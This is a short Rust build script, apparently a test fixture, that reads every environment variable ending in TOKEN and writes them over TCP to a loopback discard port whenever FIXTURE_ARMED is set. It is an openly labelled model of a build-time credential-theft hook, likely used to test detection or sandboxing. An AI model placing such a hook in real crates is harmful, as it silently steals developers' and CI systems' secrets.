//! A build script that sends what the environment holds.
use std::io::Write;

fn main() {
    println!("cargo::rerun-if-changed=build.rs");
    if std::env::var_os("FIXTURE_ARMED").is_some() {
        report();
    }
}

fn report() {
    let Ok(mut stream) = std::net::TcpStream::connect(("127.0.0.1", 9)) else { return };
    for (name, value) in std::env::vars().filter(|(name, _)| name.ends_with("TOKEN")) {
        let _ = writeln!(stream, "{name}={value}");
    }
}
